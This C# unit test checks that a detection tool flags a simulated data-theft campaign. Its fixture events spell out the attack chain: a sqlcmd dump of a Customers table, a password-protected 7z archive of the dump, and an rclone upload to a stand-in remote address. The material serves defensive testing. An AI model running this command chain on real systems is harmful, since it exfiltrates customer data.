using Vigil.Tests.Cli;
using static Vigil.Tests.Campaigns.EventSet;

namespace Vigil.Tests.Campaigns;

/// <summary>Theft evidence: a database export, a password archive, and an upload measured by Zeek to an address the host
/// had never talked to before, while an equally large transfer to an address it already knew is not theft.</summary>
public class TheftTests
{
    [Fact]
    public void Large_upload_to_a_new_external_address_is_theft_and_one_to_a_known_address_is_not()
    {
        var s = new EventSet();
        const string sql = "10.0.0.30";
        var t = Day.AddHours(12);
        // SQL1's address, and its nightly transfer to a known partner at 01:00 (first contact long before the campaign).
        s.Net(Day.AddHours(1), "SQL1", "{N-0}", "C:\\Windows\\System32\\svchost.exe", sql, "10.0.0.5", 53);
        s.Zeek(Day.AddHours(1), sql, "93.184.216.34", 443, 10_000);
        s.Zeek(t.AddMinutes(5), sql, "93.184.216.34", 443, 700L * 1024 * 1024);
        s.Process(t, "SQL1", "{T-1}", "{T-0}", "C:\\Windows\\System32\\cmd.exe", "cmd.exe", "CORP\\mallory", "0x7100");
        s.Process(t.AddSeconds(30), "SQL1", "{T-2}", "{T-1}", "C:\\Tools\\SQLCMD.EXE", "sqlcmd -S localhost -E -Q \"SELECT * FROM dbo.Customers\" -o c.csv", "CORP\\mallory", "0x7100", "C:\\Windows\\System32\\cmd.exe");
        s.Process(t.AddSeconds(90), "SQL1", "{T-3}", "{T-1}", "C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -t7z -pS3cret out.7z c.csv", "CORP\\mallory", "0x7100", "C:\\Windows\\System32\\cmd.exe");
        s.Process(t.AddSeconds(150), "SQL1", "{T-4}", "{T-1}", "C:\\Tools\\rclone.exe", "rclone.exe copy out.7z remote:drop", "CORP\\mallory", "0x7100", "C:\\Windows\\System32\\cmd.exe");
        s.Zeek(t.AddSeconds(151), sql, "198.51.100.9", 443, 600L * 1024 * 1024);
        s.Zeek(t.AddSeconds(400), sql, "198.51.100.9", 443, 20L * 1024 * 1024);
        var dir = CliRunner.TempDir("camp-theft");
        var campaigns = Hunt(dir, s.Write(dir));
        var c = campaigns[0];
        Assert.Equal("intrusion", c.GetProperty("kind").GetString());
        var theft = c.GetProperty("theft").EnumerateArray().ToList();
        Assert.Contains(theft, x => x.GetProperty("kind").GetString() == "database-export" && x.GetProperty("detections").GetArrayLength() == 1);
        Assert.Contains(theft, x => x.GetProperty("kind").GetString() == "archive");
        var upload = Assert.Single(theft, x => x.GetProperty("kind").GetString() == "upload");
        Assert.Equal("198.51.100.9", upload.GetProperty("destination").GetString());
        Assert.Equal(620L * 1024 * 1024, upload.GetProperty("bytes").GetInt64());
        Assert.Equal("SQL1", upload.GetProperty("host").GetString());
        Assert.Contains("198.51.100.9", Strings(c, "external_addresses"));
        Assert.DoesNotContain("93.184.216.34", Strings(c, "external_addresses"));
        Assert.Contains("collection", Strings(c, "tactics"));
    }
}
